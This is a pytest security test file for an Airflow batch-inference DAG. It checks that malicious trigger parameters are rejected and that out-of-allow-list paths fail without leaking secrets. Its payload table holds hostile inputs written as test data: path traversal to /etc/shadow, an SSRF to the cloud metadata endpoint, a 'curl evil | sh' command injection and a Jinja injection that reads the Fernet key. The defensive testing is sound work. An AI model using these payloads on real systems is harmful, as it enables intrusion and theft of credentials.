"""Security through the real DAGs: Airflow's param validation and the plan task refuse malicious
values before any shard task (and so any worker process or pod spec) exists."""

from __future__ import annotations

import json

import pytest

from tests.airflow.conftest import tail
from tests.airflow.test_dag_runs import latest_run
from tests.conftest import write_parquet
from tests.ledger import record_malicious

pytestmark = pytest.mark.reliability
RERUN = "vllm_batch_rerun"

FORM_PAYLOADS = {
    "input_uri dotdot": {"input_uri": "/data/in/../../etc/shadow"},
    "input_uri encoded": {"input_uri": "s3://data/in/%2e%2e/secret"},
    "input_uri scheme": {"input_uri": "http://169.254.169.254/latest/meta-data"},
    "output_uri file trick": {"output_uri": "file:/etc"},
    "model shell": {"model": "tiny; curl evil | sh"},
    "labels jinja": {"labels": ["billing", "{{ conf.get('core', 'fernet_key') }}"]},
    "labels oversized": {"labels": [f"label{i}" for i in range(300)]},
    "system_prompt jinja": {"system_prompt": "{% for x in range(10**9) %}x{% endfor %}"},
}


def test_rerun_form_refuses_malicious_params(airflow_sandbox):
    box = airflow_sandbox
    p = box.run("dags", "reserialize")
    assert p.returncode == 0, tail(p)
    runs_before = len(box.inspect(RERUN)["runs"])
    rejected = 0
    for name, bad in FORM_PAYLOADS.items():
        conf = {"input_uri": str(box.data / "adhoc"), **bad}
        p = box.run("dags", "trigger", RERUN, "-c", json.dumps(conf))
        out = p.stdout + p.stderr
        assert p.returncode != 0 and "Invalid input for param" in out, f"{name}: {tail(p, 2000)}"
        rejected += 1
    assert len(box.inspect(RERUN)["runs"]) == runs_before  # no run, so no task, no worker
    record_malicious("dag_form", len(FORM_PAYLOADS), rejected)


def test_plan_task_refuses_a_path_outside_the_deployment_allow_list(airflow_sandbox, tmp_path):
    """A well-formed path the form accepts, outside ``[vllm_batch] allowed_uri_prefixes``: plan fails, no shard runs."""
    box = airflow_sandbox
    outside = tmp_path / "outside"
    write_parquet(outside / "part-0.parquet", ["a", "b"], ["one", "two"])
    secret = "hf_SENTINELdagtestK3v9"
    env = {"AIRFLOW__VLLM_BATCH__ALLOWED_URI_PREFIXES": json.dumps([str(box.data)]), "HF_TOKEN": secret}
    p = box.dags_test(RERUN, "2026-11-24", conf={"input_uri": str(outside)}, env=env)
    assert p.returncode != 0
    db = box.inspect(RERUN)
    run_id = latest_run(db)
    tis = {t["task_id"].split(".")[-1]: t for t in db["tis"] if t["run_id"] == run_id}
    assert tis["plan"]["state"] == "failed" and tis["plan"]["try_number"] == 1  # terminal, no retry
    assert tis["shard"]["state"] == "upstream_failed"
    assert "outside the allowed prefixes" in p.stdout + p.stderr
    assert secret not in p.stdout + p.stderr  # the task logs never show the environment's secrets
    from airflow_provider_vllm.builder import TEMPLATE_FILTERS

    assert not (box.data / "reruns" / TEMPLATE_FILTERS["path_safe"](run_id) / "_plan.json").exists()
    record_malicious("dag_allow_list", 1, 1)
